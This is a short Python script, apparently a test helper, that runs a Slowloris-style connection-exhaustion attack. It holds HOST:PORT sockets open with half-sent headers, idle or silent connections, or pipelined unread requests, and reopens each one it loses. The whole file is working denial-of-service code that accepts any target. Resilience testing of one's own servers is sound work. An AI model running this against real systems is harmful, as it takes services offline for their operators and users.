"""A client that means harm: takes places at HOST PORT with KIND of requests and opens another for each that it loses.
Usage: attack.py HOST PORT KIND CONNECTIONS SECONDS. Prints "on" when it has opened as many as it may, and their number at the end."""
import os
import socket
import struct
import sys
import time

HEAD = b" HTTP/1.1\r\nHost: localhost\r\n"
KINDS = {"half": b"GET /healthz" + HEAD + b"X: ", "silent": b"", "idle": b"GET /healthz" + HEAD + b"\r\n",
         "unread": (b"GET /api/history" + HEAD + b"\r\n") * 100}


def main():
    """Until the time is over, or whoever started it closes its input."""
    host, port, kind, most, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    end, opened, ring = time.monotonic() + seconds, 0, [None] * most
    os.set_blocking(0, False)
    while time.monotonic() < end:
        i = opened % most
        if ring[i]:
            ring[i].close()
        s = ring[i] = socket.socket(family)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # leaves nothing behind in the kernel
        s.setblocking(False)
        s.connect_ex((host, port))
        try:
            if KINDS[kind]:
                s.send(KINDS[kind])
        except OSError:
            pass  # refused, or not connected yet: it takes a place all the same
        opened += 1
        if opened == most:
            print("on", flush=True)
        if opened % 64 == 0:
            try:
                if os.read(0, 1) == b"":
                    break
            except BlockingIOError:
                pass
    print(opened, flush=True)


main()
